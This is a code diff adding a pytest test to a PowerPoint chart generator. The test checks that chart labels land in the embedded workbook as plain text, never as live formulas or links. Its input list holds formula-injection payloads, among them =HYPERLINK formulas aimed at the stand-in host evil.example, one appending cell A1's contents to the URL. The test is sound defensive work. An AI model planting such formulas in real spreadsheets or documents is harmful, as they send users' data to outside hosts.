@@ -5,13 +5,16 @@ the fitter's own line_count and constants, which could only agree with themselve
 
 from __future__ import annotations
 
+import io
 import re
 import shutil
 import subprocess
 import sys
+import zipfile
 from pathlib import Path
 
 import pytest
+from lxml import etree
 from pptx import Presentation
 from pptx.oxml.ns import qn
 
@@ -344,3 +347,50 @@ def test_an_invalid_slide_plan_names_the_template_and_the_slide(project: Path) -
         "no value given"
     ), message
     assert "rendered" not in message
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example","x")',
+    '=HYPERLINK("http://evil.example/?"&A1,"Xiaohongshu") 小红书',
+    "+1 users",
+    "-2+3",
+    "@SUM(1+1)",
+    "http://evil.example/track",
+]
+
+
+def test_chart_labels_are_text_in_the_embedded_workbook_never_formulas(
+    tmp_path: Path, fitter: Fitter
+) -> None:
+    """D-02: "Edit Data" in PowerPoint must not find a live formula or link made of a label."""
+    from briefing.charts import Bar, ChartSpec
+    from briefing.render import pptx_parts
+
+    spec = ChartSpec(
+        id="attack",
+        title="Labels",
+        unit="=1+1",
+        alt="Bar chart of crafted labels",
+        bars=[Bar(label=label, value=i + 1) for i, label in enumerate(FORMULAS)],
+    )
+    deck = Presentation(str(MASTER))
+    slide = deck.slides.add_slide(deck.slide_layouts[0])
+    box = (914400, 914400, 6 * 914400, 4 * 914400)
+    pptx_parts.add_chart(slide, box, spec, fitter.fonts, 12, "#1F4E79")
+    deck.save(str(tmp_path / "deck.pptx"))
+
+    with zipfile.ZipFile(tmp_path / "deck.pptx") as package:
+        (workbook_name,) = [n for n in package.namelist() if n.startswith("ppt/embeddings/")]
+        chart_xml = package.read(next(n for n in package.namelist() if "charts/chart" in n))
+        workbook = zipfile.ZipFile(io.BytesIO(package.read(workbook_name)))
+    sheets = [workbook.read(n) for n in workbook.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
+    assert not any(n.startswith("xl/worksheets/_rels/") for n in workbook.namelist())  # no links
+    strings = {
+        "".join(si.itertext())
+        for si in etree.fromstring(workbook.read("xl/sharedStrings.xml")).iter("{*}si")
+    }
+    assert {*FORMULAS, "=1+1"} <= strings
+    # PowerPoint shows the chart's own cache: exactly the labels, in the drawn order
+    cached = [v.text for v in etree.fromstring(chart_xml).iterfind(".//{*}cat//{*}v")]
+    assert cached == list(reversed(FORMULAS))
